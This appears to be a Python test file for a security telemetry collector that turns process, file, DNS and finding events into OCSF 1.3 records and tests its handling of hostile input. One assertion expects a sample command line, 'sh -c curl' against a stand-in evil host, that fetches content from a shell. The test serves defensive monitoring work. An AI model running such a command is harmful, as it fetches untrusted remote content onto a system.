"""Every event and finding becomes a record that OCSF 1.3 takes, whatever is in it."""

from collections.abc import Callable
from types import UnionType
from typing import Any, Union, get_args, get_origin, get_type_hints

import msgspec
import pyarrow as pa
import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from lake_stories import NOON_NS, NS, found, story, task_arn, task_view

from outrider_collector.lake.columns import longs
from outrider_collector.lake.finishing import OriginColumns, finish
from outrider_collector.lake.mapping import MAPPING, map_rows
from outrider_collector.lake.memory import Memory
from outrider_collector.lake.nesting import nest, nested_schema
from outrider_collector.lake.origins import batch_origin, read_arn
from outrider_collector.lake.rows import Rows
from outrider_wire import events
from outrider_wire.events import Event, FileFacts, ProcessExecuted, ProcessId
from outrider_wire.findings import Ancestor, ContainerView, Finding, ProcessView, TaskView

Check = Callable[[pa.Table], list[dict[str, Any]]]


def tables_of(told: list[Any], found: list[Finding], *, task: Any = None) -> list[pa.Table]:
    """The finished tables of one batch."""
    rows = Rows()
    origin = batch_origin("a" * 32, 3, NOON_NS, software="0.1", task=task)
    rows.add_findings(origin, found)
    rows.add_events(origin, told, Memory())
    origins = OriginColumns(rows.origins)
    tables = []
    for lake_class, batch in map_rows(rows):
        table = nest(finish(lake_class, pa.Table.from_batches([batch]), origins))
        assert table.schema == nested_schema(lake_class.columns)
        table.validate(full=True)
        tables.append(table)
    return tables


def test_every_kind_of_event_has_its_class() -> None:
    """No event can be added to the contract without a place in the lake."""
    assert set(MAPPING) == set(get_args(Event))


def test_a_story_is_told_with_its_processes_and_its_task(validate: Check) -> None:
    """What an event names by pid alone is said in words, as far as earlier events told of it."""
    records = [r for t in tables_of(story(1, NOON_NS), [found(1, NOON_NS)]) for r in validate(t)]
    by_code = {r["metadata"]["event_code"]: r for r in records}
    assert {r["class_uid"] for r in records} == {1001, 1005, 1007, 2004, 4001, 4003, 6002}
    written = by_code["FileChanged"]
    assert written["actor"]["process"]["cmd_line"].startswith("sh -c curl 'évil.example'")
    assert written["actor"]["process"]["file"] == {"name": "sh", "path": "/bin/sh", "type_id": 1}
    assert written["file"]["name"] == "x2" and written["file"]["parent_folder"] == "/tmp"
    assert written["device"]["container"]["name"] == "app"
    assert written["unmapped"]["task_arn"] == task_arn(1) and written["cloud"]["account"]["uid"] == "123456789012"
    assert by_code["ProcessExited"]["exit_code"] == 1
    assert by_code["ProcessExited"]["unmapped"]["mnt_ns"] == NS
    executed = by_code["ProcessExecuted"]
    assert executed["process"]["lineage"] == ["/app/server"] and executed["actor"]["process"]["name"] == "server"
    assert by_code["NameResolved"]["answers"][0]["rdata"] == "a.example"
    assert by_code["Finding"]["finding_info"]["attacks"][0]["technique"]["uid"] == "T1059"
    assert by_code["Finding"]["evidences"][0]["process"]["lineage"] == ["/app/server"]
    assert len({r["metadata"]["uid"] for r in records}) == len(records)


def test_the_raw_record_is_the_event_itself() -> None:
    """Nothing that an event said is lost to whoever reads the lake."""
    told = story(1, NOON_NS)
    raw = [r["raw_data"] for t in tables_of(told, []) for r in t.to_pylist()]
    decoded = [msgspec.json.decode(text, type=Event) for text in raw]
    assert sorted(map(repr, decoded)) == sorted(map(repr, told))


def test_a_wild_clock_makes_no_partition_of_its_own(validate: Check) -> None:
    """The lake goes by when a record was received where its own time cannot be, and keeps what was told."""
    (table,) = tables_of([events.ProcessReleased(at, ProcessId(1, 1), "x") for at in (0, 1 << 62, -5, NOON_NS)], [])
    records = validate(table)
    assert {r["time"] for r in records} == {NOON_NS // 10**6}
    assert [bool(r["metadata"].get("original_time")) for r in records] == [True, True, True, False]


def test_a_record_too_long_for_ocsf_is_shortened(validate: Check) -> None:
    """A command line of a megabyte is cut, its raw record left out, and the rest stays."""
    argv = ("x" * 1_000_000,) * 3
    (table,) = tables_of([ProcessExecuted(NOON_NS, ProcessId(5, 5), comm="x", exe=FileFacts("/x"), argv=argv)], [])
    (record,) = validate(table)
    assert "raw_data" not in record and 2000 < len(record["process"]["cmd_line"]) < 65_536


@pytest.mark.parametrize("arn", ["", "x", "arn:aws:ecs:../..:123456789012:task/a", "arn:aws:ecs:eu-west-1:12:task/a"])
def test_an_arn_that_is_none_names_no_directory(arn: str) -> None:
    """Region and account come from an ARN only where they look as AWS's do."""
    assert read_arn(arn) == ("unknown", "000000000000")


def test_numbers_beyond_a_column_become_null() -> None:
    """A hostile number costs a value, not a file."""
    assert longs([1, 1 << 63, -(1 << 63), None, 1 << 80]).to_pylist() == [1, None, -(1 << 63), None, None]


NUMBERS = st.integers(-(1 << 63), (1 << 64) - 1) | st.integers(0, 70_000)
TEXT = st.text(st.characters(codec="utf-8"), max_size=12) | st.sampled_from(
    ["", "/", "/bin/sh", "a/b/", "10.0.0.1", "::1", "::ffff:10.0.0.1", "fe80::1%eth0", "_x.example", "a.example", "..",
     "1.2.3.4.5", "-", "T1059", "a" * 300, "\x00", task_arn(5)]
)  # fmt: skip
STRUCTS = (
    *get_args(Event), events.ProcessId, FileFacts, events.SocketFacts, events.Descriptor, Finding, ProcessView,
    Ancestor, ContainerView, TaskView,
)  # fmt: skip


def any_of(kind: Any) -> st.SearchStrategy[Any]:
    """Values of a type, with every field drawn."""
    if kind is int:
        return NUMBERS
    if kind is str:
        return TEXT
    if kind in STRUCTS:
        return st.builds(kind, **{name: any_of(hint) for name, hint in get_type_hints(kind).items()})
    origin, parts = get_origin(kind), [part for part in get_args(kind) if part is not ...]
    if origin in (Union, UnionType):
        return st.one_of([any_of(part) for part in parts])
    if origin in (list, tuple):
        few = st.lists(any_of(parts[0]), max_size=3)
        return few.map(tuple) if origin is tuple else few
    if origin is dict:
        return st.dictionaries(any_of(parts[0]), any_of(parts[1]), max_size=3)
    return st.from_type(kind)


ST_EVENTS = st.lists(st.one_of([any_of(kind) for kind in get_args(Event)]), max_size=8)
ST_FINDINGS = st.lists(any_of(Finding), max_size=2)


@settings(
    max_examples=60, deadline=None, phases=[Phase.explicit, Phase.generate], suppress_health_check=list(HealthCheck)
)
@given(data=st.data())
def test_any_batch_that_decodes_makes_valid_records(validate: Check, data: st.DataObject) -> None:
    """Whatever a signed agent says, each record holds to the schema, and none is lost."""
    told = data.draw(ST_EVENTS)
    said = data.draw(ST_FINDINGS)
    told = msgspec.msgpack.decode(msgspec.msgpack.encode(told), type=list[Event])
    tables = tables_of(told, said, task=data.draw(st.none() | st.just(task_view(1))))
    repeated = sum(isinstance(event, events.ContainerSeen) for event in told)
    assert len(told) + len(said) - repeated <= sum(map(len, tables)) <= len(told) + len(said)
    for table in tables:
        validate(table)
